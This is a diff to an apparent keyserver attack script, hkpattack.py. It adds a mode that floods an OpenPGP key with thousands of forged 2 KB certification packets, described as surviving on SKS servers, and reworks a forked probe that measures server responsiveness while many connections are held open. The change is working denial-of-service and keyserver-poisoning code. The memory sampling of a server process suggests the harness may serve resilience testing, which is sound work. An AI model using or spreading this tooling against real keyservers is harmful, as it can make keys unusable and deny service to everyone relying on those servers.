@@ -21,6 +21,10 @@
       append N user attribute packets of SIZE bytes (a JPEG image
       subpacket of random bytes, no signature) to the first key of the
       binary keyring IN; write the key to OUT
+  hkpattack.py padsigs IN OUT N
+      the same with N certification packets of about 2 KB (v4, type
+      0x10, RSA, random issuer and signature bytes) after the first
+      user ID: kept by servers that drop unsigned attributes (SKS)
 
 Debian's /usr/bin/python3 standard library only.
 """
@@ -61,6 +65,26 @@ def padkey(src, dst, count, size):
         sub = new_len(len(img) + 1) + b"\x01" + img
         pad += bytes([0xC0 | 17]) + new_len(len(sub)) + sub
     open(dst, "wb").write(key[:cut] + pad + key[cut:])
+
+
+def padsigs(src, dst, count):
+    data = open(src, "rb").read()
+    cut = None
+    for tag, start, stop in walk(data):
+        if tag == 13 and cut is None:
+            cut = stop
+        elif cut is not None and cut == start and tag == 2:
+            cut = stop  # after the user ID's own signatures
+    pad = b""
+    for i in range(count):
+        hashed = b"\x05\x02" + (1500000000 + i).to_bytes(4, "big")
+        unhashed = b"\x09\x10" + os.urandom(8)
+        mpi = b"\x80" + os.urandom(2047)
+        body = (b"\x04\x10\x01\x08" + len(hashed).to_bytes(2, "big") +
+                hashed + len(unhashed).to_bytes(2, "big") + unhashed +
+                os.urandom(2) + (len(mpi) * 8).to_bytes(2, "big") + mpi)
+        pad += bytes([0xC0 | 2]) + new_len(len(body)) + body
+    open(dst, "wb").write(data[:cut] + pad + data[cut:])
 
 
 def walk(data):
@@ -190,39 +214,69 @@ class Attack:
         return info[0] in (7, 8, 9)  # CLOSE, CLOSE_WAIT, LAST_ACK
 
 
-async def probe(a, res):
-    loop = asyncio.get_running_loop()
+def probe_once(a, req):
+    """One op=get on a fresh connection: (ok, ms, status)."""
+    t0 = time.monotonic()
+    status = b"timeout/error"
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.bind((a["probe_src"], 0))
+        s.connect((a["host"], a["port"]))
+        s.sendall(req)
+        data = b""
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            data += d
+        status = data.split(b" ", 2)[1] if data.startswith(b"HTTP/") \
+            else b"?"
+    except OSError:
+        pass
+    s.close()
+    return status == b"200", (time.monotonic() - t0) * 1000, status
+
+
+def probe_process(a, wfd):
+    """The probe runs in its own process, so that the attack's event
+    loop cannot delay it: every 0.25 s one op=get, for a["seconds"]."""
     req = b"GET %s HTTP/1.0\r\n\r\n" % a["probe_path"].encode()
-    while not res["stop"]:
-        t0 = time.monotonic()
-        status, ok = None, False
-        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        s.setblocking(False)
-        try:
-            s.bind((a["probe_src"], 0))
-            await asyncio.wait_for(
-                loop.sock_connect(s, (a["host"], a["port"])), 5)
-            await loop.sock_sendall(s, req)
-            data = b""
-            while True:
-                d = await asyncio.wait_for(loop.sock_recv(s, 65536), 5)
-                if not d:
-                    break
-                data += d
-            status = data.split(b" ", 2)[1] if data.startswith(b"HTTP/") \
-                else b"?"
-            ok = status == b"200"
-        except (OSError, asyncio.TimeoutError):
-            status = b"timeout/error"
-        s.close()
-        ms = (time.monotonic() - t0) * 1000
+    res = {"probes": 0, "answered": 0, "worst_ms": 0.0, "failures": []}
+    end = time.monotonic() + a["seconds"]
+    while time.monotonic() < end:
+        ok, ms, status = probe_once(a, req)
         res["probes"] += 1
         res["worst_ms"] = max(res["worst_ms"], ms)
         if ok and ms <= a["deadline"] * 1000:
             res["answered"] += 1
         else:
             res["failures"].append("%s %.0f ms" % (status.decode(), ms))
-        await asyncio.sleep(0.25)
+        time.sleep(0.25)
+    os.write(wfd, json.dumps(res).encode())
+    os._exit(0)
+
+
+def start_probe(a):
+    rfd, wfd = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(rfd)
+        probe_process(a, wfd)
+    os.close(wfd)
+    return pid, rfd
+
+
+def collect_probe(pid, rfd, res):
+    data = b""
+    while True:
+        d = os.read(rfd, 65536)
+        if not d:
+            break
+        data += d
+    os.close(rfd)
+    os.waitpid(pid, 0)
+    res.update(json.loads(data.decode()))
 
 
 def rss_kib(pid, field="VmRSS"):
@@ -248,13 +302,16 @@ async def run(a):
            "rss_peak_kib": 0, "stop": False}
     tasks = [asyncio.create_task(atk.one(i)) for i in range(a["conns"])]
     await asyncio.sleep(a["warmup"])
-    side = [asyncio.create_task(probe(a, res))]
+    ppid, prfd = start_probe(a)
+    side = []
     if a["pid"]:
         side.append(asyncio.create_task(sample(a, res)))
     await asyncio.sleep(a["seconds"])
     atk.stop = True
     res["stop"] = True
     await asyncio.gather(*side, return_exceptions=True)
+    await asyncio.get_running_loop().run_in_executor(
+        None, collect_probe, ppid, prfd, res)
     for t in tasks:
         t.cancel()
     await asyncio.gather(*tasks, return_exceptions=True)
@@ -269,6 +326,9 @@ async def run(a):
 
 
 def main(argv):
+    if len(argv) >= 4 and argv[0] == "padsigs":
+        padsigs(argv[1], argv[2], int(argv[3]))
+        return 0
     if len(argv) >= 5 and argv[0] == "padkey":
         padkey(argv[1], argv[2], int(argv[3]), int(argv[4]))
         return 0
